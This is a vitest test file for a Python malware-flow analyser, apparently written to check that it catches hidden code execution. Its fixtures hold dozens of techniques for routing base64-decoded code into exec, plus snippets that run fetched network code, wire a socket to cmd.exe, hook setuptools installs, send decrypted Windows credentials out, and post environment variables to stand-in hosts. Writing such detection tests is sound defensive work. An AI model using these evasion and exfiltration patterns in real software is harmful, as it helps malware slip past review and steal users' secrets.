import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import base64, functools, importlib, operator, sys, types\ndef d(x): return base64.b64decode(x)\n';
const runIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'decoder', to: 'exec' }).map(({ when }) => when) ?? [];

test.each([
  ['what a with block is given', 'class A:\n    def __enter__(self): return d(x)\n    def __exit__(self, *a): pass\nwith A() as code:\n    exec(code)'],
  ['what an object has under a key', 'class A:\n    def __getitem__(self, key): return d(key)\nexec(A()["x"])'],
  ['what a dict makes up for a key', 'class A(dict):\n    def __missing__(self, key): return d(key)\na = A()\nexec(a["x"])'],
  ['an object that is called', 'class A:\n    def __call__(self, x): return d(x)\nexec(A()(x))'],
  ['an object that is added to', 'class A:\n    def __add__(self, other): return d(other)\nexec(A() + x)'],
  ['an object on the right of a sign', 'class A:\n    def __rrshift__(self, other): exec(d(other))\nx >> A()'],
  ['an object that is compared', 'class A:\n    def __eq__(self, other): exec(d(other))\nA() == x'],
  ['an object that is looked into', 'class A:\n    def __contains__(self, other): exec(d(other))\nx in A()'],
  ['an object that a loop goes through', 'class A:\n    def __iter__(self): yield d(x)\nfor code in A():\n    exec(code)'],
  ['an object that is asked whether it is true', 'class A:\n    def __bool__(self): exec(d(x))\nif A():\n    pass'],
  ['an object that is shown', 'class A:\n    def __str__(self): return d(x)\nexec(str(A()))'],
  ['an attribute that an object makes up', 'class A:\n    def __getattr__(self, name): return d(name)\nexec(A().x)'],
  ['a method that an object makes up', 'class A:\n    def __getattr__(self, name):\n        exec(d(name))\nA().x()'],
  ['a list of functions in a class', 'class A:\n    steps = [base64.b64decode, bytes.decode]\n    def run(self, x):\n        for step in self.steps: x = step(x)\n        exec(x)\nA().run(x)'],
  ['a static method', 'class A:\n    @staticmethod\n    def run(code): exec(code)\nA.run(d(x))'],
  ['a static method of an object', 'class A:\n    @staticmethod\n    def run(code): exec(code)\nA().run(d(x))'],
  ['a method that is kept in a variable', 'class A:\n    def run(self, code): exec(code)\nf = A().run\nf(d(x))'],
  ['a name that the module is given', 'setattr(sys.modules[__name__], "r", eval)\nr(d(x))'],
  ['a name that the module is given as an object', 'me = importlib.import_module(__name__)\nme.r = exec\nr(d(x))'],
  ['a name among all names', 'globals().update(r=exec)\nr(d(x))'],
  ['a name among all names, set', '(lambda g: g.__setitem__("r", exec))(globals())\nr(d(x))'],
  ['an error that is raised and caught', 'try:\n    raise RuntimeError(d(x))\nexcept RuntimeError as e:\n    exec(e.args[0])'],
  ['an error of a function', 'def f(): raise ValueError(d(x))\ntry: f()\nexcept ValueError as e: exec(str(e))'],
  ['what matches a pattern', 'match d(x):\n    case code:\n        exec(code)'],
  ['what matches a part of a pattern', 'match 1, d(x):\n    case _, code:\n        exec(code)'],
  ['decorators of Python', '@exec\n@base64.b64decode\n@(lambda f: x)\ndef f(): pass'],
  ['a function that is called until it says so', 'exec(b"".join(iter(lambda: d(x), b"")))'],
  ['a function that folds a list', 'functools.reduce(lambda _, code: exec(code), [d(x)], None)'],
  ['a bound function', 'types.MethodType(exec, d(x))()'],
  ['a function with an argument by its name', 'def f(a, code): exec(code)\nfunctools.partial(f, code=d(x))(1)'],
  ['a frame of the import system', 'importlib._bootstrap._call_with_frames_removed(exec, d(x), {})'],
  ['the names that a function sees', 'd.__globals__["exec"](d(x))'],
  ['the module of a function of Python', 'print.__self__.exec(d(x))'],
  ['the call of a function', 'exec.__call__(d(x))'],
  ['a class that is put together', 'A = type("A", (), {"run": lambda self, code: exec(code)})\nA().run(d(x))'],
  ['a key of a dict of names', 't = {"x": "exec"}\nimport builtins\ngetattr(builtins, t["x"])(d(x))'],
  ['names that are taken out of a module one by one', 'import builtins as b\nf = [b.__dict__[n] for n in ("print", "exec")]\nf[1](d(x))'],
  ['exclusive-or as a function', 'exec(bytes(map(operator.xor, x, k)))'],
  ['letters that are taken off', 'import builtins\ngetattr(builtins, "__exec__".strip("_"))(d(x))'],
])('what is decoded reaches exec by way of %s', async (_, text) => {
  expect(await runIn(text)).toContain('import');
});

test.each([
  ['another key', 'class A:\n    def __getitem__(self, key): return 1\na = A()\nb = d(x)\nexec(a["x"])'],
  ['an error that holds something else', 'try:\n    y = d(x)\n    raise RuntimeError("bad")\nexcept RuntimeError as e:\n    exec(e.args[0])'],
  ['a static method that is given something else', 'class A:\n    @staticmethod\n    def run(a, code): exec(code)\nA.run(d(x), 1)'],
  ['a name that the module is given, of something harmless', 'setattr(sys.modules[__name__], "r", print)\nr(d(x))'],
  ['another key of a dict of names', 'import builtins\nt = {"x": "exec", "p": "print"}\ngetattr(builtins, t["p"])(d(x))'],
  ['an argument by another name', 'def f(a, code): exec(code)\nfunctools.partial(f, a=d(x))(code=1)'],
  ['a list that is iterated', 'for x in iter([d(x)]): print(x)'],
])('nothing that is decoded runs by way of %s', async (_, text) => {
  expect(await runIn(text)).toEqual([]);
});

test.each([
  ['an object with a method for a sign', 'class A:\n    def __add__(self, other): exec(d(other))\na = A()'],
  ['an object that is never called', 'class A:\n    def __call__(self, x): exec(d(x))\na = A()'],
])('%s waits for it', async (_, text) => {
  expect(await runIn(text)).toEqual(['latent']);
});

test('a module within a package is imported by its name with a list of what is wanted', async () => {
  const { facts } = await read('exec(__import__("urllib.request", fromlist=["x"]).urlopen("https://i.example.invalid").read())\n');
  expect(facts?.flows({ from: 'network', to: 'exec' })).not.toEqual([]);
});

test('a connection and a shell are tied together by methods that a function is given', async () => {
  const { facts } = await read('import socket, subprocess, threading\ndef pump(a, b):\n    while True: b(a(1))\ns = socket.create_connection((h, 1))\np = subprocess.Popen(["cmd.exe"], stdin=-1)\nthreading.Thread(target=pump, args=(s.recv, p.stdin.write)).start()\n');
  expect(facts?.flows({ from: 'network', to: 'process' })).not.toEqual([]);
});

test('a command of setuptools starts programs by a method that it inherits', async () => {
  const { facts } = await read('from setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        self.spawn(["undefined-program"])\n', 'install');
  expect(facts?.calls('process')).toMatchObject([{ text: 'undefined-program', when: 'install' }]);
});

test('a class of commands that a loop makes is run by an install', async () => {
  const { facts } = await read('import setuptools\nfrom setuptools.command import develop, install\nall = {}\nfor module, name in ((develop, "develop"), (install, "install")):\n    def run(self):\n        undefined.start()\n        import os; os.system("undefined-program")\n    all[name] = type(name, (getattr(module, name),), {"run": run})\nsetuptools.setup(cmdclass=all)\n', 'install');
  expect(facts?.calls('process')).toMatchObject([{ when: 'install' }]);
});

test('what a library of C is handed a pointer to holds what it gives', async () => {
  const { facts } = await read('import ctypes, urllib.request\nout = Blob()\nctypes.windll.crypt32.CryptUnprotectData(ctypes.byref(given), None, None, None, None, 0, ctypes.byref(out))\nurllib.request.urlopen("https://example.invalid/?" + ctypes.string_at(out.pb, out.cb).hex())\n');
  expect(facts?.flows({ from: 'credentials', to: 'network' })).not.toEqual([]);
});

test('a request is sent with the attributes that it was given', async () => {
  const { facts } = await read('import os, urllib.request\nr = urllib.request.Request("https://example.invalid")\nr.data = repr(dict(os.environ)).encode()\nurllib.request.urlopen(r)\n');
  expect(facts?.flows({ from: 'environment', to: 'network' })).not.toEqual([]);
});
